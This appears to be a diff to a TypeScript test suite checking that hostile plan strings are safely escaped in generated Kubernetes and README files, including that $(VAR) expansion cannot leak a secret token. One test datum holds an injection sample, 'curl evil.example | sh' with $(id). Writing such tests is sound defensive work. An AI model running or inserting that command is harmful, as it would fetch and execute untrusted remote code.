@@ -23,7 +23,7 @@ import type { EngineName, Plan } from "../../src/contract/plan.js";
 import { engineCommand, PINNED_IMAGES, type RenderedFile } from "../../src/render/index.js";
 import { isPinnedImage } from "../../src/render/images.js";
 import { fillTemplate, mdCell, mdCode, shellQuote } from "../../src/render/template.js";
-import { loadFixture, renderPlan, variant } from "../tools/render.js";
+import { k8sExpand, loadFixture, renderPlan, variant } from "../tools/render.js";
 
 const byPath = (files: RenderedFile[]) => new Map(files.map((f) => [f.path, f.content]));
 const file = (files: RenderedFile[], path: string): string => {
@@ -427,9 +427,14 @@ describe("hostile plan strings are escaped for each file", () => {
     expect(bind.source.replace(/\$\$/g, "$")).toBe(e.modelRef);
     expect(bind.source).not.toMatch(/(^|[^$])\$\(/);
     const k8s = renderPlan(variant(plan, (p) => (p.spec.packaging = "kubernetes")));
-    const args = yamlOf(k8s, "k8s/deployment.yaml").spec.template.spec.containers[0].args;
+    const container = yamlOf(k8s, "k8s/deployment.yaml").spec.template.spec.containers[0];
+    // Kubernetes expands $(VAR) in args and env values and reads $$ as a literal $ (k8sExpand does
+    // the same): what the engine receives is the plan's exact string, never a secret.
+    const env = { HF_TOKEN: "secret-token", HOME: "/tmp" };
+    const args = (container.args as string[]).map((a) => k8sExpand(a, env));
     expect(args[1]).toBe(e.modelRef);
     expect(flag(args, "--served-model-name")).toBe(e.servedModelName);
+    expect(JSON.stringify(args)).not.toContain("secret-token");
     for (const f of k8s.filter((x) => x.path.endsWith(".yaml"))) {
       expect(() => parseAllDocuments(f.content).map((d) => d.toJS()), f.path).not.toThrow();
     }
@@ -447,7 +452,6 @@ describe("hostile plan strings are escaped for each file", () => {
     }
     const readme = file(files, "README.md");
     expect(readme).toContain("| cost | $1.60/h (`price 'curl evil.example \\| sh' $(id)");
-    expect(readme).not.toMatch(/^second line/m);
     expect(readme.split("\n").filter((l) => l.startsWith("#")).length).toBe(4);
     for (const f of files) {
       for (const line of f.content.split("\n").filter((l) => l.startsWith("# "))) {
